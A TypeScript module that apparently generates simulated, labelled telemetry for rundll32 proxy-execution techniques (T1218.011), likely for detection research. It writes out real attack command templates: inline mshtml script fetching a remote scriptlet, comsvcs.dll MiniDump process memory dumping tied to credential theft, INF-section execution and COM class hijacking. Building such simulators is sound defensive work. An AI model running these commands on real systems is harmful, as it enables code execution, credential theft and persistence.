import { entryName, fileName, word } from "../../world/names.ts";
import { plainFile } from "../../world/programs.ts";
import { type Chain, chain, label } from "../chain.ts";
import { perform, written } from "./act.ts";
import { callOut, child, dropPath, entry, sharePath, webFile } from "./delivery.ts";

const T = "T1218.011";

/** T1218.011 Rundll32: a library and an entry, or a library of Windows that runs something else. */
export const rundll32: readonly Chain[] = [
  chain(`${T}/entry`, (s) => {
    const dll = dropPath(s, ["dll", "dll", "dat", "tmp", "jpg", "cpl"]);
    const separator = s.random.pick([",", ",", " ", ", "]);
    const rest = s.random.chance(0.3) ? ` ${word(s.random)} ${s.random.int(1, 9999)}` : "";
    perform(s, "rundll32.exe", {
      args: `${written(s, dll)}${separator}${entryName(s.random)}${rest}`,
      payload: dll,
      kind: "dll",
      technique: T,
      note: "a library that was just written",
      drops: [dll],
      loads: [plainFile(dll)],
    });
  }),
  chain(`${T}/relative`, (s) => {
    const name = `${fileName(s.random)}.dll`;
    const path = `${s.home}\\${name}`;
    perform(s, "rundll32.exe", {
      args: `${name},${entryName(s.random)}`,
      payload: name,
      kind: "dll",
      technique: T,
      note: "a library in the working directory",
      drops: [path],
      loads: [plainFile(path)],
    });
  }),
  chain(`${T}/share`, (s) => {
    const dll = sharePath(s, ["dll", "dat"]);
    perform(s, "rundll32.exe", {
      args: `${written(s, dll)},${entryName(s.random)}`,
      payload: dll,
      kind: "dll",
      technique: T,
      note: "a library on somebody else's share",
      loads: [dll],
    });
  }),
  chain(`${T}/script`, (s) => {
    const url = webFile(s, ["sct"]);
    const code = s.random.pick([
      `javascript:"\\..\\mshtml,RunHTMLApplication ";${word(s.random)}("${word(s.random)}")`,
      `javascript:"\\..\\mshtml.dll,RunHTMLApplication ";document.write();GetObject("script:${url}")`,
      `vbscript:"\\..\\mshtml,RunHTMLApplication "+String(${word(s.random)}("${word(s.random)}"))`,
    ]);
    perform(s, "rundll32.exe", {
      args: code,
      payload: code,
      kind: "inline",
      technique: T,
      note: "code in the command line",
      loads: ["mshtml.dll", "jscript9.dll"],
      ...(code.includes(url) ? { fetches: [url] } : {}),
    });
  }),
  chain(`${T}/open-address`, (s) => {
    const target = s.random.chance(0.5) ? dropPath(s, ["hta", "url", "exe"]) : webFile(s, ["hta"]);
    const by = s.random.pick([
      "url.dll,OpenURL",
      "url.dll,FileProtocolHandler",
      "ieframe.dll,OpenURL",
      "shdocvw.dll,OpenURL",
    ]);
    perform(s, "rundll32.exe", {
      args: `${by} ${written(s, target)}`,
      payload: target,
      kind: "url",
      technique: T,
      note: "a library of Windows opens what it is given",
      drops: target.startsWith("http") ? [] : [target],
      fetches: target.startsWith("http") ? [target] : [],
    });
  }),
  chain(`${T}/shell-exec`, (s) => {
    const exe = dropPath(s, ["exe", "scr", "com"]);
    const by = s.random.pick([
      "shell32.dll,ShellExec_RunDLL",
      "SHELL32.DLL,ShellExec_RunDLLA",
      "zipfldr.dll,RouteTheCall",
      "pcwutl.dll,LaunchApplication",
      "advpack.dll,RegisterOCX",
    ]);
    perform(s, "rundll32.exe", {
      args: `${by} ${written(s, exe)}`,
      payload: exe,
      kind: "exe",
      technique: T,
      note: "a library of Windows starts a program",
      drops: [exe],
    });
  }),
  chain(`${T}/section`, (s) => {
    const inf = dropPath(s, ["inf"]);
    const args = s.random.pick([
      `${s.random.pick(["advpack.dll", "ieadvpack.dll"])},LaunchINFSection ${written(s, inf)},${s.random.pick(["DefaultInstall_SingleUser", entryName(s.random)])},1,`,
      `setupapi.dll,InstallHinfSection ${s.random.pick(["DefaultInstall", entryName(s.random)])} 128 ${inf}`,
      `syssetup.dll,SetupInfObjectInstallAction DefaultInstall 128 ${inf}`,
    ]);
    perform(s, "rundll32.exe", {
      args,
      payload: inf,
      kind: "inf",
      technique: T,
      note: "a section of an installer file brought from outside",
      drops: [inf],
      loads: ["scrobj.dll"],
    });
  }),
  chain(`${T}/dump`, (s) => {
    const dump = dropPath(s, ["dmp", "bin"]);
    const first = entry(s);
    const proc = s.spawn(
      first,
      "rundll32.exe",
      `rundll32.exe C:\\Windows\\System32\\comsvcs.dll${s.random.pick([",", " ", ", "])}MiniDump ${4 * s.random.int(150, 240)} ${dump} full`,
    );
    const truth = {
      payload: "C:\\Windows\\System32\\comsvcs.dll",
      kind: "dll",
      technique: T,
      also: ["T1003.001"],
      note: "a library of Windows writes the memory of a process",
    } as const;
    label(s, { parent: first, proc, truth, after: [s.file(proc, dump)] });
  }),
  chain(`${T}/class`, (s) => {
    const clsid = `{${s.random.hex(8)}-52f5-4f1b-9a35-${s.random.hex(12)}}`;
    const path = `HKU\\${s.user.sid}_Classes\\CLSID\\${clsid}\\InprocServer32\\(Default)`;
    const dll = dropPath(s, ["dll"]);
    perform(s, "rundll32.exe", {
      args: `-sta ${clsid}`,
      payload: clsid,
      kind: "process",
      technique: T,
      also: ["T1546.015"],
      note: "a class of the user's own",
      drops: [dll],
      sets: [[path, dll]],
      loads: [plainFile(dll)],
    });
  }),
  chain(`${T}/empty`, (s) => {
    const first = s.spawn(entry(s), dropPath(s, ["exe"]), `${word(s.random)}.exe`);
    const proc = s.spawn(
      first,
      "rundll32.exe",
      s.random.pick(["rundll32.exe", `"C:\\Windows\\System32\\rundll32.exe"`, "C:\\Windows\\SysWOW64\\rundll32.exe"]),
    );
    const truth = {
      payload: null,
      kind: "process",
      technique: T,
      also: ["T1055"],
      note: "started without arguments, then talks and starts something",
    } as const;
    label(s, {
      parent: first,
      proc,
      truth,
      after: [
        s.thread(first, proc, "C:\\Windows\\System32\\ntdll.dll", "RtlUserThreadStart"),
        callOut(s, proc),
        child(s, proc),
      ],
    });
  }),
];
